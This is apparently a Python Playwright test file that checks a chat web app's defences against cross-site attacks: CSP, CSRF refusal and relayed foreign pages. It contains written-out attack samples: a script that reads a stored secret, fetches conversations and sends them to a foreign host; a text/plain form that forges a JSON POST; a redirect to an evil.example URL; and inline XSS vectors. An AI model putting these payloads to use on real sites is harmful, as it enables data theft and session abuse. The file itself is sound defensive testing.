"""A page of somebody else in a user's browser: it can neither act on the server nor run a script as if it were ours."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from tests.assistant.http.support import EVIL_NAMES
from tests.browser.support import ask, open_page, serving

# What a page could do that runs as ours: read this browser's secret, fetch its conversations, carry them away.
LOOT = """<!doctype html><script>
const sent = { headers: { "Dateline-Browser": localStorage.getItem("dateline-secret") } };
fetch("/api/conversations", sent).then((reply) => reply.text()).then((loot) => {
  location = "http://localhost:PORT/loot?" + encodeURIComponent(loot);
});
</script>"""
FORM = """<!doctype html><form method=post enctype=text/plain action="TARGET/api/ask">
<input name='{"question": "who?", "x' value='": 1}'></form><script>document.forms[0].submit()</script>"""


class Foreign(ThreadingHTTPServer):
    """Somebody else's server, which remembers what it was asked for."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.asked: list[str] = []
        self.target = ""
        self.address = f"http://localhost:{self.server_port}"


class Handler(BaseHTTPRequestHandler):
    server: Foreign

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        if self.path == "/attack":
            self.send_response(302)
            port = self.server.server_port
            self.send_header("Location", f"{self.server.target}/gradio_api/file=http://evil.example:{port}/x.png")
            self.end_headers()
            return
        pages = {"/x.png": LOOT, "/form": FORM}
        page = pages.get(self.path, "<!doctype html><title>nothing</title>")
        page = page.replace("PORT", str(self.server.server_port)).replace("TARGET", self.server.target)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(page.encode())

    def log_message(self, *_: object) -> None:
        pass


@contextmanager
def foreign_server() -> Iterator[Foreign]:
    with Foreign() as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def address(seed_home: Path) -> Iterator[str]:
    with serving(seed_home, before=EVIL_NAMES, quiet=False) as address:
        yield address


@pytest.fixture
def foreign(address: str) -> Iterator[Foreign]:
    with foreign_server() as server:
        server.target = address
        yield server


@pytest.fixture
def page(browser: Browser, address: str) -> Iterator[Page]:
    context = browser.new_context()
    page = open_page(context.new_page(), address)
    yield page
    context.close()


def test_a_page_that_the_server_would_relay_takes_nothing_over(page: Page, foreign: Foreign) -> None:
    ask(page, "how many displaced?")
    page.goto(f"{foreign.address}/attack")
    page.wait_for_timeout(1500)
    assert foreign.asked == ["/attack"]  # nobody fetched the page, and nothing was carried away


def test_a_form_of_another_site_is_refused(page: Page, foreign: Foreign) -> None:
    with page.expect_response(f"{foreign.target}/api/ask") as refused:  # not what the page asked before it left
        page.goto(f"{foreign.address}/form")
    assert refused.value.status == 403


def test_a_link_of_another_site_shows_the_page(page: Page, foreign: Foreign) -> None:
    page.goto(foreign.address)
    page.evaluate(f"location = {json.dumps(foreign.target)}")
    page.locator(".dl[data-ready]").wait_for()


def test_no_inline_script_runs_in_the_page(page: Page) -> None:
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.hacked = 1";
            document.body.append(script);
            document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.hacked = 1'>");
            document.body.insertAdjacentHTML("beforeend", "<a id=evil href='javascript:window.hacked = 1'>x</a>");
            document.getElementById("evil").click();
        }"""
    )
    page.wait_for_timeout(500)
    assert page.evaluate("window.hacked") is None
    assert any("Content Security Policy" in text for text in refused)


def test_what_is_no_page_runs_nothing_even_if_a_browser_opens_it(page: Page, address: str) -> None:
    for path in ("/api/health", "/theme.css", "/none", "/api/docs"):
        response = page.request.get(address + path)
        assert "script-src" not in response.headers["content-security-policy"]
        assert "default-src 'none'" in response.headers["content-security-policy"]
    policy = page.request.get(address).headers["content-security-policy"]
    assert "script-src 'self';" in policy
    assert "style-src 'self';" in policy
    assert "unsafe" not in policy
